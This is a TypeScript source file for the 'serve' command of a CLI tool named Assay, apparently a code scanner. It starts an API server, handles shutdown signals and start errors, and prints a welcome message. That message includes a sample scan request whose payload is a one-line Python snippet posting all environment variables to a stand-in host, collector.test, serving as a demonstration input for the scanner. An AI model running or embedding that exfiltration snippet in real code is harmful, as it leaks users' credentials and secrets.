import { startServer } from '../api/server.ts';
import { type Tier, type Tiers, tiers } from '../api/tiers.ts';
import { CliError } from './cli-error.ts';
import { exitCodes } from './exit-codes.ts';
import { operatorSecret } from './operator-secret.ts';
import { describeLocation, type StoreOptions, storeLocation } from './store-location.ts';

export interface ServeOptions extends StoreOptions {
  readonly host: string;
  readonly port: number;
  readonly publicUrl?: string;
  readonly otlpEndpoint?: string;
  readonly jobs: number;
  readonly requestsPerMinute?: number;
  readonly actionsPerMonth?: number;
}

/** Runs until a signal ends it. */
export async function serve({ host, port, ...options }: ServeOptions): Promise<void> {
  // Listened for from the beginning: a signal during the start ends it properly as well.
  const stopped = new Promise<NodeJS.Signals>((resolve) => {
    process.once('SIGINT', resolve);
    process.once('SIGTERM', resolve);
  });
  const apiKey = process.env.ASSAY_API_KEY;
  const location = storeLocation(options);
  if (options.jobs === 0 && !('databaseUrl' in location)) {
    throw new CliError('--jobs 0 leaves the work to assay worker, which needs PostgreSQL: nobody would ever do it');
  }
  const server = await startServer({
    host,
    port,
    location,
    jobs: options.jobs,
    tiers: tiersOf(options),
    ...operatorSecret(),
    ...(options.publicUrl === undefined ? {} : { publicUrl: options.publicUrl }),
    ...(options.otlpEndpoint === undefined ? {} : { otlpEndpoint: options.otlpEndpoint }),
    ...(apiKey === undefined ? {} : { apiKey }),
  }).catch((error: unknown) => {
    throw startError(error, host, port);
  });
  process.stdout.write(welcome(server.url, server.firstKey, describeLocation(location)));
  await stopped;
  // A second signal is from someone who does not want to wait.
  process.once('SIGINT', () => process.exit(exitCodes.interrupted));
  process.once('SIGTERM', () => process.exit(exitCodes.interrupted));
  await server.close();
}

/** The tiers of the document, and the operator's own keys limited as the operator wants. */
function tiersOf({
  requestsPerMinute = null,
  actionsPerMonth = null,
}: Partial<Pick<Tier, 'requestsPerMinute' | 'actionsPerMonth'>>): Tiers {
  return { ...tiers, 'self-hosted': { ...tiers['self-hosted'], requestsPerMinute, actionsPerMonth } };
}

function welcome(url: string, firstKey: string | undefined, place: string): string {
  const lines = [`Assay listens on ${url} (documentation: ${url}/docs); its data is in ${place}`];
  if (firstKey !== undefined)
    lines.push('', `API key: ${firstKey}`, 'It is shown this once and stored as a hash only: keep it now.');
  const key = firstKey ?? '$ASSAY_API_KEY';
  const body = JSON.stringify({
    content: 'import os, requests\nrequests.post("https://collector.test", data=dict(os.environ))\n',
  });
  lines.push(
    '',
    'Try it:',
    '',
    `curl -sS ${url}/api/v1/scan -H 'Content-Type: application/json' -H "X-API-Key: ${key}" -d '${body}'`,
    '',
  );
  return `${lines.join('\n')}\n`;
}

function startError(error: unknown, host: string, port: number): unknown {
  const { code } = error as NodeJS.ErrnoException;
  if (code === 'EADDRINUSE')
    return new CliError(`port ${port} on ${host} is in use; --port 0 picks a free one`, exitCodes.infrastructure);
  if (code === 'EACCES')
    return new CliError(`port ${port} on ${host} may not be used by this user`, exitCodes.infrastructure);
  if (code === 'EADDRNOTAVAIL' || code === 'ENOTFOUND') return new CliError(`${host} is no address of this machine`);
  if (code === 'ASSAY_CHOSEN_KEY') return new CliError((error as Error).message);
  return error;
}
